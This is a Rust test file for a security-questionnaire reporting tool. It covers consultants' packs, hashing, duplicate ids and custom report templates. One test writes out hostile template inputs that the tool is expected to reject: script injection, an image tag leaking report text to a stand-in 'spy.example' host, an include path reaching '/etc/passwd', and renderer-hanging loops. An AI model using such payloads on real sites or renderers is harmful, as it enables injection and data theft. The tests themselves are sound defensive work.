//! Questions and templates of one's own: what a consultant brings along works with everything that is shipped, and
//! nothing that somebody sends can do more than it may.

use std::fs;

use serde_json::Value;

use crate::runner::{Desk, names, repository, samples};
use crate::small::{incident, questionnaire};

/// A desk with a folder of the tests' fixtures on it.
fn with_fixture(folder: &str) -> Desk {
    let desk = Desk::new();
    let mut open = vec![folder.to_owned()];
    while let Some(below) = open.pop() {
        for name in names(&repository("tests/fixtures").join(&below)) {
            let path = format!("{below}/{name}");
            match fs::read(repository("tests/fixtures").join(&path)) {
                Ok(bytes) => desk.write(&path, bytes),
                Err(_) => open.push(path),
            }
        }
    }
    desk
}

/// The parsed text of what was printed.
fn json(text: &str) -> Value {
    serde_json::from_str(text).unwrap()
}

fn ids(list: &Value) -> Vec<&str> {
    list.as_array().unwrap().iter().map(|entry| entry["id"].as_str().unwrap()).collect()
}

#[test]
fn a_consultants_pack_gives_one_report_with_what_is_shipped() {
    let desk = with_fixture("pack");
    let checked = "check pack/reed-marsh.toml pack/controls.toml pack/sources.toml pack/answers.toml \
                   pack/frameworks/reed-marsh-house-rules.toml pack/incidents/rm-open-laptop-2024.toml";
    assert_eq!(desk.run(0, checked).out.matches("no problems").count(), 6);
    let report = json(&desk.run(0, "report pack/answers.toml --json").out);
    let sha256 = report["questionnaire"]["sha256"].as_str().unwrap();
    for (format, text) in desk.reports("pack/answers.toml --today 2026-11-23") {
        if format != "csv" {
            let text = text.replace("\\&", "&").replace("&amp;", "&");
            for part in ["reed-marsh", "2026.3", sha256, "A laptop left open at a surgery"] {
                assert!(text.contains(part), "{format}: {part}");
            }
        }
    }
    let incidents = ids(&report["incidents"]);
    assert!(incidents.contains(&"rm-open-laptop-2024") && incidents.contains(&"storting-2020"));
    let own = report["incidents"].as_array().unwrap().iter().find(|one| one["id"] == "rm-open-laptop-2024");
    assert_eq!(own.unwrap()["word"]["stated"], "open");
    assert_eq!(own.unwrap()["word"]["possible"], "interrupted", "by a control of its own and a shipped one");
    assert!(ids(&report["frameworks"]).contains(&"reed-marsh-house-rules"));
    assert!(ids(&report["frameworks"]).contains(&"cyber-essentials"));
    assert!(ids(&report["gates"]).contains(&"surgery-desk") && ids(&report["gates"]).contains(&"mfa"));
    let context = desk.run(0, "templates context pack/answers.toml").out;
    assert!(context.contains("\"Screens lock by themselves\""), "controls of its own have their names");
    assert!(context.contains("\"Second step on all work mail\""), "and so have the shipped ones");
}

#[test]
fn a_pack_in_a_folder_of_its_own_counts_the_same() {
    let desk = with_fixture("pack");
    let beside = json(&desk.run(0, "report pack/answers.toml --json").out);
    desk.write("answers.toml", desk.bytes("pack/answers.toml"));
    for more in ["--questionnaires pack", "--questionnaire pack/reed-marsh.toml"] {
        assert_eq!(json(&desk.run(0, &format!("report answers.toml --json {more}")).out), beside, "{more}");
        desk.run(0, &format!("check answers.toml {more}"));
        desk.run(0, &format!("why answers.toml surgery.desk {more}"));
    }
    desk.run(0, "new blank.toml --questionnaire pack/reed-marsh.toml");
    assert!(desk.read("blank.toml").contains("[answers.surgery.rehearsed]"));
    assert!(desk.run(0, "show pack/reed-marsh.toml").out.contains("Is the table clear"));
}

#[test]
fn a_changed_base_changes_the_hash_of_the_pack() {
    let desk = with_fixture("pack");
    let hash = |desk: &Desk| {
        json(&desk.run(0, "report pack/answers.toml --json").out)["questionnaire"]["sha256"].clone()
    };
    let before = hash(&desk);
    let base = fs::read_to_string(repository("questionnaires/political-organisation.toml")).unwrap();
    desk.write("pack/political-organisation.toml", base + "# changed\n");
    assert_ne!(hash(&desk), before);
}

#[test]
fn an_entry_with_the_id_of_a_shipped_one_takes_its_place_in_a_pack() {
    let desk = with_fixture("pack");
    desk.write("pack/incidents/storting-2020.toml", incident("storting-2020", "rm-clear-desk"));
    let control = "\n[[control]]\nid = \"mfa-email\"\ntitle = \"Our own words\"\nsummary = \"s\"\n";
    desk.write("pack/controls.toml", desk.read("pack/controls.toml") + control);
    let report = json(&desk.run(0, "report pack/answers.toml --json").out);
    let titles: Vec<_> =
        report["incidents"].as_array().unwrap().iter().filter(|one| one["id"] == "storting-2020").collect();
    assert_eq!(titles.len(), 1);
    assert_eq!(titles[0]["title"], "Incident");
    assert!(desk.run(0, "templates context pack/answers.toml").out.contains("\"Our own words\""));
}

#[test]
fn two_files_with_one_id_are_told_and_not_both_counted() {
    let desk = with_fixture("pack");
    desk.run(0, "report pack/answers.toml --incidents pack/incidents");
    let other = desk.read("pack/incidents/rm-open-laptop-2024.toml").replace("Spring", "Autumn");
    desk.write("pack/incidents/again.toml", other);
    let said = desk.run(3, "report pack/answers.toml").err;
    assert!(said.contains("duplicate-id") && said.contains("rm-open-laptop-2024.toml:2:6"), "{said}");
    let flagship = Desk::with_sample("local-party");
    flagship.write("more/mine.toml", incident("storting-2020", "mfa-email"));
    let said = flagship.run(3, "report answers.toml --incidents more").err;
    assert!(said.contains("duplicate-id") && said.contains("mine.toml:2:6"), "{said}");
}

#[test]
fn hostile_packs_end_with_a_clear_error() {
    let desk = with_fixture("pack");
    let base_of = |id: &str, base: &str| {
        questionnaire(id, "Ring", "mfa-email") + &format!("[base]\nid = \"{base}\"\nversion = \"1\"\n")
    };
    desk.write("ring/one.toml", base_of("one", "two"));
    desk.write("ring/two.toml", base_of("two", "one"));
    desk.write("ring/lost.toml", base_of("lost", "nowhere"));
    for (file, code) in [("one", "circular-base"), ("lost", "dangling-base")] {
        let said = desk.run(3, &format!("check ring/{file}.toml")).out;
        assert!(said.contains(code), "{said}");
        desk.run(3, &format!("show ring/{file}.toml"));
    }
    let pack = "report pack/answers.toml";
    for (file, text, code) in [
        ("pack/controls.toml", "#".repeat(1024 * 1024 + 1), "too-large"),
        ("pack/sources.toml", format!("a = {}1{}", "[".repeat(200), "]".repeat(200)), "too-deep"),
        ("pack/incidents/rm-open-laptop-2024.toml", "\0".to_owned(), "nul-byte"),
    ] {
        let sound = desk.bytes(file);
        desk.write(file, text);
        let command = if file.contains("sources") { "check pack/reed-marsh.toml" } else { pack };
        let said = desk.run(3, command);
        assert!((said.out + &said.err).contains(code), "{file}");
        desk.write(file, sound);
    }
    desk.run(0, pack);
}

#[test]
fn a_new_questionnaire_is_accepted_at_once_and_with_every_line_in_use() {
    let desk = Desk::new();
    desk.run(0, "questionnaire new volunteer-check.toml");
    desk.run(0, "questionnaire new our-check.toml --base political-organisation");
    for id in ["volunteer-check", "our-check"] {
        let file = format!("{id}.toml");
        assert!(desk.run(0, &format!("check {file}")).out.contains("no problems"));
        let text = desk.read(&file);
        assert!(text.starts_with("#:schema ./safeseat-questionnaire.schema.json\n"));
        assert!(text.contains(&format!("id = \"{id}\"")));
        let in_use = text.lines().map(|line| match line.strip_prefix('#') {
            Some(rest) if !rest.starts_with([' ', ':']) => format!("{rest}\n"),
            _ => format!("{line}\n"),
        });
        let whole: String = in_use.collect();
        for kind in ["yes-no", "levels", "percentage", "last-done", "tick-all"] {
            assert!(whole.contains(&format!("\nkind = \"{kind}\"")), "{kind}");
        }
        desk.write(&file, whole);
        assert!(desk.run(0, &format!("check {file}")).out.contains("no problems"));
    }
    assert_eq!(
        desk.read("safeseat-questionnaire.schema.json"),
        fs::read_to_string(repository("schemas/questionnaire.schema.json")).unwrap()
    );
    desk.run(4, "questionnaire new our-check.toml");
    for (arguments, words) in [
        ("Our-Check.toml", "cannot be the name"),
        ("our", "cannot be the name"),
        ("next.toml --base political-organization", "did you mean `political-organisation`"),
        ("next.toml --base next", "would build on itself"),
    ] {
        let said = desk.run(2, &format!("questionnaire new {arguments}")).err;
        assert!(said.contains(words), "{said}");
    }
}

#[test]
fn exported_templates_make_the_same_report_and_are_never_written_over() {
    let desk = Desk::with_sample("party-hq-november");
    desk.run(0, "templates export mine");
    let list = desk.run(0, "templates list").out;
    for file in ["base.css", "report/areas.html", "report/report.css", "movement/since.html"] {
        assert!(list.contains(&format!(" {file} ")) && desk.path("mine").join(file).is_file(), "{file}");
    }
    desk.run(0, "templates check mine");
    let make = |more: &str| {
        desk.run(0, &format!("report answers.toml --today 2026-11-16 -o report.html {more}"));
        desk.read("report.html")
    };
    let ours = make("");
    assert_eq!(make("--templates mine"), ours);
    desk.write("mine/own/note.html", "<p class=\"note\">Prepared by {{ head.assessed_by }}.</p>\n");
    let areas = desk.read("mine/report/areas.html");
    desk.write("mine/report/areas.html", areas.clone() + "{% include \"own/note.html\" %}\n");
    desk.write(
        "mine/report/report.css",
        desk.read("mine/report/report.css") + "\r\n\r\n\n\nh2 { color: #246; }\n",
    );
    desk.run(0, "templates check mine");
    let page = make("--templates mine");
    assert!(page.contains("<p class=\"note\">Prepared by") && page.contains("h2 { color: #246; }"));
    fs::remove_file(desk.path("mine/base.css")).unwrap();
    let said = desk.run(2, "templates export mine").err;
    assert!(said.contains("mine/report/report.css") && !desk.path("mine/base.css").exists(), "{said}");
}

#[test]
fn mistakes_in_templates_are_shown_like_any_other() {
    let desk = Desk::with_sample("local-party");
    desk.write("mine/report/areas.html", "<section>\n  <h2>{{ heading }}</h2>\n</section>\n");
    for command in ["templates check mine", "report answers.toml -o report.html --templates mine"] {
        let said = desk.run(3, command).err;
        for part in ["error[broken-template]", "areas.html:2:10", "<h2>{{ heading }}</h2>", "help: "] {
            assert!(said.contains(part), "{command}: {said}");
        }
    }
    assert!(!desk.path("report.html").exists());
    desk.write("mine/report/areas.html", "<p>{{ since.movement.old.date.words }}</p>");
    let said = desk.run(3, "templates check mine").err;
    assert!(said.contains("movement"), "a first assessment is tried too: {said}");
    desk.write("mine/report/area.html", "x");
    let said = desk.run(3, "templates check mine").err;
    assert!(said.contains("unknown-template") && said.contains("did you mean `report/areas.html`"), "{said}");
    desk.run(2, "report answers.toml --templates mine");
    desk.run(4, "report answers.toml -o report.html --templates nowhere");
}

#[test]
fn templates_of_a_stranger_can_neither_run_nor_load_nor_hang() {
    let desk = Desk::with_sample("local-party");
    let check = |text: &str, code: &str| {
        desk.write("theirs/report/areas.html", text);
        let said = desk.run(3, "templates check theirs").err;
        assert!(said.contains(code), "{text}: {said}");
    };
    check("<script>alert(1)</script>", "unsafe-page");
    check("<p onmouseover=\"x\">x</p>", "unsafe-page");
    check("<p title={{ head.organisation.name }}>x</p>", "unsafe-page");
    check("<img alt=\"\" src=\"https://spy.example/{{ verdict.sentence }}\">", "unsafe-page");
    check("<a href=\"javascript:alert(1)\">x</a>", "unsafe-page");
    check("{% include \"../../../etc/passwd\" %}", "broken-template");
    check("{% set x = x ~ x %}", "broken-template");
    let loops = 40;
    check(&("{% for a in areas %}".repeat(loops) + &"{% endfor %}".repeat(loops)), "broken-template");
    let loops = 30;
    check(&("{% for a in areas %}".repeat(loops) + &"{% endfor %}".repeat(loops)), "in time");
    // As deep as components and includes may go at once: no room runs out.
    for i in 0..5 {
        let next = if i < 4 {
            format!("{{% include \"own/{}.html\" %}}", i + 1)
        } else {
            "{{ <deep a=\"x\" /> }}".into()
        };
        desk.write(&format!("theirs/own/{i}.html"), next);
    }
    let deep =
        "{% component deep(a) %}{% include \"own/0.html\" %}{% endcomponent deep %}{{ <deep a=\"x\" /> }}";
    check(deep, "recursion");
}

#[test]
fn a_page_that_is_not_harmless_names_the_template_that_made_it_so() {
    let desk = Desk::with_sample("local-party");
    desk.write("mine/report/verdict.html", "<p>fine</p>");
    desk.write("mine/report/areas.html", "<p>fine</p>{% include \"own/deep.html\" %}");
    desk.write("mine/report/plan.html", "<script>plan</script>");
    desk.write("mine/own/deep.html", "<script>deep</script>");
    let said = |culprit: &str| {
        for command in ["templates check mine", "report answers.toml -o r.html --templates mine"] {
            let said = desk.run(3, command).err.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(said.contains(&format!("it comes from `mine/{culprit}`")), "{command}: {said}");
        }
    };
    said("own/deep.html");
    desk.write("mine/own/deep.html", "fine");
    said("report/plan.html");
    desk.write("mine/report/plan.html", "fine");
    desk.write("mine/report/method.html", "<form>");
    said("report/method.html");
}

#[cfg(unix)]
#[test]
fn no_link_is_followed_out_of_a_folder_of_templates() {
    let desk = Desk::with_sample("local-party");
    desk.write("secret.html", "secret");
    desk.write("mine/own/x.html", "x");
    std::os::unix::fs::symlink(desk.path("secret.html"), desk.path("mine/own/y.html")).unwrap();
    for command in ["templates check mine", "templates export mine"] {
        let said = desk.run(4, command).err;
        assert!(said.contains("symbolic link") && said.contains("y.html"), "{said}");
    }
}

#[test]
fn what_templates_are_given_is_what_the_schema_says() {
    let desk = Desk::new();
    let schema = desk.run(0, "templates context --schema").out;
    assert_eq!(schema, fs::read_to_string(repository("schemas/templates-v1.schema.json")).unwrap());
    let validator = jsonschema::draft202012::new(&json(&schema)).unwrap();
    let mut contexts = vec![desk.run(0, "templates context").out];
    for sample in samples() {
        desk.write("answers.toml", fs::read(repository(&format!("examples/{sample}.toml"))).unwrap());
        contexts.push(desk.run(0, "templates context answers.toml").out);
    }
    assert!(contexts[0].contains("\"movement\""), "the example has an assessment before it");
    let whole = json(&contexts[0]);
    for audience in ["board", "client", "public"] {
        let context = desk.run(0, &format!("templates context --audience {audience}")).out;
        let given = json(&context);
        assert_eq!(given["head"]["audience"], audience);
        let asked = |of: &Value| -> usize {
            let areas = of["areas"].as_array().unwrap();
            areas.iter().map(|area| area["asked"].as_array().unwrap().len()).sum()
        };
        assert_eq!(asked(&given), if audience == "client" { asked(&whole) } else { 0 }, "{audience}");
        contexts.push(context);
    }
    desk.run(2, "templates context --schema --audience board");
    for context in contexts {
        let faults: Vec<_> = validator
            .iter_errors(&json(&context))
            .map(|fault| format!("{}: {fault}", fault.instance_path()))
            .collect();
        assert!(faults.is_empty(), "{faults:#?}");
    }
}

#[test]
fn an_emptied_template_leaves_its_part_out() {
    let desk = Desk::with_sample("local-party");
    desk.write("mine/report/services.html", "");
    desk.run(0, "templates check mine");
    desk.run(0, "report answers.toml --templates mine -q -o r.html");
    assert!(!desk.read("r.html").contains("id=\"services\""));
}

#[test]
fn templates_are_checked_for_every_audience() {
    let desk = Desk::new();
    desk.write("mine/report/short.html", "<p>{{ nosuch }}</p>\n");
    let said = desk.run(3, "templates check mine");
    assert!(said.err.contains("short.html"), "{}", said.err);
}
